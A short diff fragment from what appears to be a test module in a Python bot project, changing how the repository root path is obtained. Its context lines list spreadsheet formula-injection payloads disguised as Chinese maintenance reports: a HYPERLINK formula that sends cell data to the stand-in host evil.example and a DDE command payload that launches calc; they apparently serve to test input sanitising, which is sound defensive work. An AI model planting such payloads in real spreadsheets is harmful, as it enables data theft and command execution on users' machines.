@@ -13,9 +13,9 @@ from pathlib import Path
 
 from openpyxl import load_workbook
 
-from bot.config import Settings
+from bot.config import REPO_ROOT, Settings
 
-REPO = Path(__file__).resolve().parent.parent
+REPO = REPO_ROOT
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
 REPORTS = ('=HYPERLINK("http://evil.example/?d="&A1,"楼道灯不亮了")',
            "+cmd|' /C calc'!A0 楼道的灯坏了",
